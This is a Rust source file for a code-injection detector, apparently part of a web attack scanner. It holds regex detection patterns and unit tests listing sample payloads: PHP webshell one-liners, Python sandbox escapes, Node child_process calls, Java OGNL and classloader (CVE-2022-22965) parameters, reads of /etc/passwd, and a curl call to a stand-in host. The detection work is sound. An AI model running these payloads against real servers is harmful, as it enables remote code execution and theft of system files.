//! Code for the interpreter that the server itself runs in: PHP, Python, Node.js, Java and its expression languages,
//! Ruby, Lua.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{Detector, Hit, Kind, Subject, Tokens};
use crate::catalogue::DetectorInfo;
use crate::pattern;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "code_injection",
    what: "an expression of PHP, Python, JavaScript, Java or Ruby that starts programs or opens the interpreter itself",
    why: "a value that is evaluated, `eval` included, does on the server whatever the attacker writes",
    example: "require('child_process').execSync('id')",
};

/// Ways into the interpreter that programs seldom write in one expression, and values never need.
static ENTRY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\b__import__\s*\(\s*\\?['"](?:os|subprocess|pty|socket|sys|commands|builtins|importlib)|__(?:builtins|globals|subclasses)__\s*(?:\[|\.|\()|\(\)\s*\.\s*__class__|\bgetattr\s*\(\s*(?:__builtins__|os\b|__import__)|\beval\s*\(\s*(?:compile|base64_decode|gzinflate|gzuncompress|str_rot13|atob|buffer\.from|__import__|request\.|params\b|\$_)|\bexec\s*\(\s*['"]import\s|\bassert\s*\(\s*(?:\$_|base64_decode|['"]system)|\b(?:system|exec|passthru|shell_exec|popen|include|require|eval|assert|call_user_func|create_function)\s*\(?\s*@?\$_(?:get|post|request|cookie|server|files)\b|<\?(?:php|=)\s*(?:[@$]?\w+\s*\(|\x60|echo\b|print\b|system\b|eval\b|die\b|\$)|<%\s*(?:eval|execute|executeglobal)\b|\bphp\s*:\s*function\s*\(|\bpreg_replace\s*\(\s*['"]/.{0,80}/\w{0,6}e\w{0,6}['"]\s*,|\b(?:call_user_func(?:_array)?|array_map|array_filter|usort)\s*\(\s*['"](?:system|exec|passthru|shell_exec|assert|eval|phpinfo)|\brequire\s*\(\s*\\?['"](?:node:)?child_process|\bprocess\.(?:mainmodule|binding\s*\(|_linkedbinding)|\bglobal(?:this)?\s*\.\s*process\.|\bconstructor\s*\.\s*constructor\s*\(|\[\s*['"]constructor['"]\s*\]\s*\[\s*['"]constructor|\bfunction\s*\(\s*['"]return\s+(?:this|process|global)|\bnew\s+function\s*\(\s*['"]|\bruntime\s*(?:\)|\.getruntime\s*\(\s*\))\s*\.?\s*(?:getruntime\s*\(\s*\)\s*)?\.?\s*exec\s*\(|@java\.lang\.\w+@|\bT\s*\(\s*java\.|\bnew\s+(?:java\.lang\.)?processbuilder\s*\(|\bclass\.forname\s*\(\s*['"]java\.lang\.(?:runtime|processbuilder)|\.getclass\s*\(\s*\)\s*\.\s*forname|\.class\.forname\s*\(|#_?memberaccess\b|@ognl\.|#(?:context|attr|request|application)\s*\[|\bscriptenginemanager\s*\(\s*\)|\bkernel\s*\.\s*(?:exec|system|spawn|open)\b|\bio\.popen\s*\(|\bopen3\.|%x[({\[|]\s*['"]?\w|\bos\.execute\s*\(\s*['"]|\bprocess\.start\s*\(\s*['"]|\bsystem\.diagnostics\.process\b|\bactivator\.createinstance\b)"#,
    )
});
/// A call that starts a program, with the beginning of its argument.
static SINK: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\b(?:system|exec|execsync|execfile|spawn|spawnsync|passthru|shell_exec|popen|proc_open|pcntl_exec|backticks|check_output|check_call|getoutput|getstatusoutput|os\.\w{4,8}|subprocess\.\w+)\s*\(\s*\[?\s*\\?['"]\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:(?:ba|z|k|da)?sh\b|cmd\b|powershell|(?:id|whoami|uname|pwd|ls|dir|env|printenv|ifconfig|ipconfig|hostname|netstat|ps|w)\b(?:\s+-\w+)*\s*\\?['"|;&]|(?:cat|type|head|tail|more|less)\s+\S*[/\\]|(?:ls|dir)\s+[-/c]|(?:wget|curl|nc|ncat|netcat|ping|nslookup|dig|sleep|telnet|socat|perl|python\d?|php|ruby|rm|touch|chmod|echo)\s)"#,
    )
});
/// Harmless calls whose answer tells that code was run.
static PROBE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\b(?:print|echo|die|var_dump|print_r|printf)\s*\(?\s*(?:md5|md5_hex|sha1|crc32|base64_decode|phpversion|php_uname|getcwd|file_get_contents|scandir|get_current_user)\s*\(|^[\s;'"){}(]*phpinfo\s*\(\s*-?\d*\s*\)|[;{@]\s*phpinfo\s*\(\s*\)|\b(?:file_get_contents|readfile|highlight_file|show_source|readfilesync|open|file)\s*\(\s*\\?['"](?:/etc/|/proc/|php://|c:\\|\.\./)|\b(?:include|require)(?:_once)?\s*\(?\s*['"](?:https?|ftp|php|data|phar|expect):|\bres\.(?:end|send|write)\s*\(\s*(?:require|process|global)|\bprocess\.(?:exit|kill)\s*\()"#,
    )
});
/// Parameters that Java binds to the class loader (CVE-2022-22965) or to an expression (CVE-2013-2251).
static BOUND: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:^|\.)class\.(?:module\.)?classloader\b|^(?:redirect|action|redirectaction|method):[$%#]?[{(#@]|^\(?#(?:_memberaccess|context|a|foo|rt)\b|^\$\{.*\}$|^%\{.*\}$",
    )
});

fn wants(subject: &Subject<'_>) -> bool {
    match subject.kind {
        Kind::Name => subject.tokens.any(Tokens::CODE),
        Kind::File => subject.tokens.any(Tokens::SHELL),
        _ => subject.tokens.any(Tokens::CODE),
    }
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    let bytes = subject.bytes;
    if subject.kind == Kind::Name {
        let hit = BOUND.find(bytes).map(|found| Hit::at(&found, 0.94, "name that is bound to the run time"));
        return hit.or_else(|| Some(Hit::at(&ENTRY.find(bytes)?, 0.9, "code that opens the interpreter")));
    }
    let hit = ENTRY
        .find(bytes)
        .map(|found| Hit::at(&found, 0.93, "code that opens the interpreter"))
        .or_else(|| SINK.find(bytes).map(|found| Hit::at(&found, 0.9, "code that starts a program")))
        .or_else(|| PROBE.find(bytes).map(|found| Hit::at(&found, 0.86, "code that shows that it runs")))?;
    // In a file only code of the server's own kind counts; a file of lines is what it says it is.
    if subject.kind == Kind::File {
        let php =
            hit.range.start < bytes.len() && bytes.get(hit.range.start..).is_some_and(|rest| rest.starts_with(b"<?"));
        return php.then_some(hit);
    }
    let confidence = if subject.is_mentioned(&hit.range) || subject.is_program() { 0.6 } else { hit.confidence };
    Some(Hit { confidence, ..hit })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn code_is_found() {
        must_fire(
            &DETECTOR,
            Kind::Parameter,
            &[
                "<?php system($_GET['c']); ?>",
                "<?=`$_GET[0]`?>",
                "system('id')",
                "';system('cat /etc/passwd');//",
                "${@system('whoami')}",
                "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
                "phpinfo()",
                "';phpinfo();//",
                "print(md5(31337));",
                "call_user_func('system','id')",
                "__import__('os').system('id')",
                "__import__('os').popen('id').read()",
                "().__class__.__bases__[0].__subclasses__()",
                "exec(\"import os; os.system('id')\")",
                "os.system('curl http://evil.example')",
                "subprocess.check_output(['id'])",
                "open('/etc/passwd').read()",
                "require('child_process').execSync('id')",
                "global.process.mainModule.require('fs')",
                "this.constructor.constructor('return process')().exit()",
                "res.end(require('fs').readFileSync('/etc/passwd'))",
                "Runtime.getRuntime().exec('id')",
                "new java.lang.ProcessBuilder('id').start()",
                "(#rt=@java.lang.Runtime@getRuntime()).exec('id')",
                "''.getClass().forName('java.lang.Runtime')",
                "new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')",
                "Kernel.exec('id')",
                "os.execute('id')",
                "System.Diagnostics.Process.Start('cmd.exe')",
            ],
        );
        must_fire(
            &DETECTOR,
            Kind::Name,
            &["class.module.classLoader.resources.context.parent.pipeline.first.pattern", "redirect:${#a=1}"],
        );
        must_fire(&DETECTOR, Kind::File, &["GIF89a<?php system($_GET['c']); ?>"]);
    }

    #[test]
    fn snippets_and_talk_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Json,
            &[
                "Don't use eval(base64_decode($x)) in the plug-in, because it is a hole for everybody",
                "Please replace `os.system('ls -l')` with subprocess.run",
                "import os\nimport sys\n\ndef main():\n    os.system('ls /tmp')\n\nmain()",
                "process.env.NODE_ENV === 'production'",
                "const x = require('express'); app.listen(3000)",
                "system(s) are down",
                "the system (cat /etc) is slow",
                "executive summary",
                "eval(x) returned 5",
                "class Loader",
                "function(a) { return a; }",
                "subprocess.run(args, check=True)",
            ],
        );
        must_not_fire(&DETECTOR, Kind::Name, &["class", "class.name", "className", "redirect", "action"]);
        must_not_fire(&DETECTOR, Kind::File, &["import os\nos.system('ls /')\n"]);
    }
}
